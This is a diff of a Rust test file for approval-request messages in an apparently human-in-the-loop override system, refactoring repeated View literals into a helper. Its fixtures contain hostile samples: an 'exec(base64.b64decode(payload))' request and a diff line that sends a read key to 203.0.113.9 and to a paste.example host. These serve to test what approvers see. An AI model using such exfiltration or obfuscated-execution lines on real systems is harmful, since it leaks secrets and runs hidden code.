@@ -77,6 +77,19 @@ fn asked(hostile: &str) -> OverrideAsked {
     }
 }
 
+/// The message of a waiting request, as Matrix shows it.
+fn waiting_in_matrix<'a>(rid: &'a RequestId, asked: &'a OverrideAsked) -> View<'a> {
+    View {
+        request_id: rid,
+        asked,
+        ended: None,
+        approved_by: &[],
+        system: "matrix",
+        escalated: false,
+        code_page: None,
+    }
+}
+
 fn ended_by(reason: &str) -> Ended {
     let mut terminal = Terminal::without_run(Outcome::Denied, "denied");
     terminal.decision = Some(DecisionSummary {
@@ -304,15 +317,7 @@ fn discord_keeps_outside_text_in_code_and_mentions_nobody() {
 fn the_message_says_what_an_approver_needs() {
     let rid = RequestId::parse(RID).unwrap();
     let a = asked("exec(base64.b64decode(payload))");
-    let view = View {
-        request_id: &rid,
-        asked: &a,
-        ended: None,
-        approved_by: &[],
-        system: "matrix",
-        escalated: false,
-        code_page: None,
-    };
+    let view = waiting_in_matrix(&rid, &a);
     let now = 1_795_000_900_000 - 12 * 60_000;
     let t = plain::render(&request_message(&view), now, 64 * 1024);
     let first = t.lines().next().unwrap_or_default();
@@ -420,13 +425,8 @@ fn ended_requests_say_who_decided_and_how_it_ended() {
     let rid = RequestId::parse("r1").unwrap();
     let a = asked("x");
     let view = View {
-        request_id: &rid,
-        asked: &a,
         ended: Some(&ended),
-        approved_by: &[],
-        system: "matrix",
-        escalated: false,
-        code_page: None,
+        ..waiting_in_matrix(&rid, &a)
     };
     let message = request_message(&view);
     let t = plain::render(&message, 0, 64 * 1024);
@@ -484,15 +484,7 @@ fn a_read_only_grant_names_the_hosts_the_program_may_fetch_from() {
     a.read_only_hosts = ["docs.python.org", "pypi.org", "*.example.org", "a", "b", "c", "d", "e"]
         .map(str::to_owned)
         .to_vec();
-    let view = View {
-        request_id: &rid,
-        asked: &a,
-        ended: None,
-        approved_by: &[],
-        system: "matrix",
-        escalated: false,
-        code_page: None,
-    };
+    let view = waiting_in_matrix(&rid, &a);
     let t = plain::render(&request_message(&view), 0, 64 * 1024);
     assert!(
         t.contains("read-only internet (GET/HEAD only, through Airlock's proxy, to: docs.python.org, pypi.org, *.example.org, a, b, c, 2 more), 0.5 CPU"),
@@ -578,15 +570,7 @@ fn a_revision_names_the_earlier_request_its_decision_and_the_diff() {
         diff: Some("--- mai.earlier\n+++ mai.now\n@@ -1,2 +1,2 @@\n key = read()\n-send('http://203.0.113.9/k', key)\n+send('https://paste.example/k', key)\n".into()),
         missing: None,
     }));
-    let view = View {
-        request_id: &rid,
-        asked: &a,
-        ended: None,
-        approved_by: &[],
-        system: "matrix",
-        escalated: false,
-        code_page: None,
-    };
+    let view = waiting_in_matrix(&rid, &a);
     let t = plain::render(&request_message(&view), 1_795_000_000_000, 64 * 1024);
     for needle in [
         "A revision: it revises request `mai.earlier`, denied by @alice:localhost (reason: \"no keys leave\") at 2026-11-18 10:53 UTC (13 min before this request).",
